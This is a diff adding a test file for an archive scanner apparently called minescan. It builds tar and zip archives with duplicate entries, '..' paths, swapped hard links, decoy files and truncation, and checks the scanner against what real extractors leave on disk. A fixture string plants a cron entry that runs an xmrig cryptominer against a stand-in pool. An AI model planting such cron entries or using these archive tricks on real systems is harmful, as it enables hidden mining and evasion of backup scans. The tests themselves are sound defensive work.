@@ -1,0 +1,150 @@
+/**
+ * Hostile archives, built with the real tools (tar -c then tar -r appends, gzip, zstd,
+ * xz, zip, head -c to truncate), read the way a scan reads a target, and compared with
+ * what the real extractor (GNU tar, unzip -o) leaves on disk: that is what a restored
+ * server runs. Covered: two entries of one path (the last wins), names with "..", a
+ * hard link whose target is replaced later, a file entry over a non-empty directory
+ * (the directory stays: an attacker cannot hide /var/spool/cron/crontabs behind a
+ * later decoy), over an empty one (replaced), a directory over a file, and archives
+ * cut short (the entries before the cut are kept, and the rest is reported as not
+ * read). Work is bounded by counting the bytes read.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { execFile } from 'node:child_process';
+import { promisify } from 'node:util';
+import { mkdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { openTarget } from '../../mountfs/open-target.js';
+import { hostTree, sorted, vfsTree } from '../helpers/tree-compare.js';
+import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
+
+const run = promisify(execFile);
+const MALICIOUS = '* * * * * root /tmp/.x/xmrig -o pool.example:3333\n';
+
+let scratch: string;
+let tarFile: string;
+beforeAll(async () => {
+  scratch = await makeScratchDir('minescan-hostile-archives-');
+  // First the archive as an ordinary backup would hold it...
+  const src = path.join(scratch, 'src');
+  for (const d of ['etc/cron.d', 'var/spool/cron/crontabs', 'opt/empty', 'srv']) await mkdir(path.join(src, d), { recursive: true });
+  await writeFile(path.join(src, 'etc/cron.d/job'), '# nothing\n');
+  await writeFile(path.join(src, 'etc/a'), 'old a\n');
+  await run('ln', [path.join(src, 'etc/a'), path.join(src, 'etc/b')]);
+  await writeFile(path.join(src, 'var/spool/cron/crontabs/root'), MALICIOUS);
+  await writeFile(path.join(src, 'srv/file'), 'a file\n');
+  tarFile = path.join(scratch, 'hostile.tar');
+  await run('tar', ['-C', src, '-cf', tarFile, 'etc', 'var', 'opt', 'srv']);
+  // ...then later entries of the same paths appended with tar -r.
+  await writeFile(path.join(src, 'etc/cron.d/job'), MALICIOUS);
+  await rm(path.join(src, 'etc/a'));
+  await writeFile(path.join(src, 'etc/a'), 'new a\n');
+  await rm(path.join(src, 'var/spool/cron/crontabs'), { recursive: true });
+  await writeFile(path.join(src, 'var/spool/cron/crontabs'), 'a decoy file\n');
+  await rm(path.join(src, 'opt/empty'), { recursive: true });
+  await writeFile(path.join(src, 'opt/empty'), 'now a file\n');
+  await rm(path.join(src, 'srv/file'));
+  await mkdir(path.join(src, 'srv/file'));
+  await writeFile(path.join(src, 'srv/file/inner'), 'inner\n');
+  await run('tar', ['-C', src, '-rf', tarFile, 'etc/cron.d/job', 'etc/a', 'var/spool/cron/crontabs', 'opt/empty', 'srv/file', 'srv/file/inner']);
+  for (const [tool, ext] of [['gzip', 'gz'], ['zstd', 'zst'], ['xz', 'xz']] as const) {
+    await run('bash', ['-c', `${tool} -c ${tarFile} > ${tarFile}.${ext}`]);
+  }
+});
+afterAll(async () => {
+  if (scratch) await removeScratchDir(scratch);
+});
+
+/** What the real extractor leaves, and what minescan reads, as comparable trees; `paths` are read too. */
+async function compare(file: string, extract: (into: string) => Promise<unknown>, paths: string[]) {
+  const into = path.join(scratch, `${path.basename(file)}.out`);
+  await mkdir(into, { recursive: true });
+  await extract(into).catch(() => undefined); // tar exits 2 for the entry it refuses
+  const counter = { bytesRead: 0 };
+  const opened = await openTarget(file, counter, { retain: ['/**'] });
+  try {
+    expect(opened.filesystems).toHaveLength(1);
+    const vfs = opened.filesystems[0]!.vfs;
+    return {
+      ours: sorted(await vfsTree(vfs)),
+      theirs: sorted(await hostTree(into)),
+      notes: opened.volumes.flatMap((v) => v.notes).join('\n'),
+      warnings: opened.warnings,
+      contents: await Promise.all(paths.map(async (p) => (await vfs.readFile(p)).toString())),
+      bytesRead: counter.bytesRead,
+    };
+  } finally {
+    await opened.close();
+  }
+}
+
+describe('an archive is judged as extraction leaves it', () => {
+  it.each(['', '.gz', '.zst', '.xz'])('tar%s: last entry of a path, hard links, directories and files replacing each other', async (ext) => {
+    const file = tarFile + ext;
+    const r = await compare(file, (into) => run('tar', ['-C', into, '-xf', file]), ['/etc/cron.d/job', '/etc/b', '/var/spool/cron/crontabs/root']);
+    expect(r.ours).toEqual(r.theirs);
+    expect(r.contents).toEqual([MALICIOUS, 'old a\n', MALICIOUS]);
+    expect(r.notes).toMatch(/var\/spool\/cron\/crontabs: a file over a non-empty directory is not extracted/);
+    expect(r.warnings).toEqual([]);
+    expect(r.bytesRead).toBeLessThanOrEqual(2 * (await stat(file)).size);
+  });
+
+  it('zip: the last of several entries naming one path, in central directory order', async () => {
+    const src = path.join(scratch, 'zipsrc');
+    await mkdir(path.join(src, 'etc/cron.d'), { recursive: true });
+    await writeFile(path.join(src, 'etc/cron.d/joA'), '# first\n');
+    await writeFile(path.join(src, 'etc/cron.d/joXX'), '# second\n');
+    await writeFile(path.join(src, 'etc/cron.d/job'), MALICIOUS);
+    await mkdir(path.join(src, 'x/zz/etc'), { recursive: true });
+    await writeFile(path.join(src, 'x/zz/etc/dots'), 'unzip drops the dots\n');
+    const file = path.join(scratch, 'dup.zip');
+    await run('bash', ['-c', `cd ${src} && zip -q ${file} etc/cron.d/joA etc/cron.d/joXX etc/cron.d/job x/zz/etc/dots`]);
+    // zip will not store one name twice: rename the first two in place (local headers and
+    // central directory) to "etc/cron.d/job" and "etc//cron.d/job", names of the same length;
+    // and give the last one a ".." component, which unzip drops (x/etc/dots).
+    let bytes = await readFile(file);
+    for (const [from, to] of [['etc/cron.d/joA', 'etc/cron.d/job'], ['etc/cron.d/joXX', 'etc//cron.d/job'], ['x/zz/etc/dots', 'x/../etc/dots']]) {
+      bytes = Buffer.from(bytes.toString('latin1').split(from).join(to), 'latin1');
+    }
+    await writeFile(file, bytes);
+    const r = await compare(file, (into) => run('unzip', ['-o', '-q', file, '-d', into]), ['/etc/cron.d/job', '/x/etc/dots']);
+    expect(r.ours).toEqual(r.theirs);
+    expect(r.contents).toEqual([MALICIOUS, 'unzip drops the dots\n']);
+    expect(r.bytesRead).toBeLessThanOrEqual(2 * bytes.length);
+  });
+});
+
+describe('an archive cut short keeps what was read before the cut', () => {
+  let base: string;
+  beforeAll(async () => {
+    // A crontab, then a file large enough to span several compressed blocks, then more.
+    const src = path.join(scratch, 'cutsrc');
+    await mkdir(path.join(src, 'var/spool/cron/crontabs'), { recursive: true });
+    await mkdir(path.join(src, 'etc'), { recursive: true });
+    await writeFile(path.join(src, 'var/spool/cron/crontabs/root'), MALICIOUS);
+    await run('head', ['-c', String(600 << 10), '/dev/urandom'], { encoding: 'buffer', maxBuffer: 1 << 20 }).then(({ stdout }) => writeFile(path.join(src, 'big.bin'), stdout));
+    await writeFile(path.join(src, 'etc/later'), 'later\n');
+    base = path.join(scratch, 'cut-base.tar');
+    await run('tar', ['-C', src, '-cf', base, 'var', 'big.bin', 'etc']);
+    for (const [tool, ext] of [['gzip', 'gz'], ['zstd', 'zst'], ['xz', 'xz']] as const) await run('bash', ['-c', `${tool} -c ${base} > ${base}.${ext}`]);
+  });
+
+  it.each(['', '.gz', '.zst', '.xz'])('tar%s cut inside its last file: the first entries are read and the target is incomplete', async (ext) => {
+    const whole = await readFile(base + ext);
+    // Plain tar: inside the data of etc/later (its header is followed by zero padding that would
+    // pass for the end of the archive); compressed: at 80%, past the crontab and into big.bin.
+    const at = ext ? Math.floor(whole.length * 0.8) : whole.indexOf('etc/later') + 512 + 3;
+    const cut = path.join(scratch, `cut.tar${ext}`);
+    await writeFile(cut, whole.subarray(0, at));
+    const counter = { bytesRead: 0 };
+    const opened = await openTarget(cut, counter, { retain: ['/**'] });
+    try {
+      const vfs = opened.filesystems[0]!.vfs;
+      expect((await vfs.readFile('/var/spool/cron/crontabs/root')).toString()).toBe(MALICIOUS);
+      expect(opened.warnings).toEqual([expect.stringMatching(/the \d+ entries before it were read, the rest of the archive was not$/)]);
+      expect(counter.bytesRead).toBeLessThanOrEqual(2 * whole.length);
+    } finally {
+      await opened.close();
+    }
+  });
+});
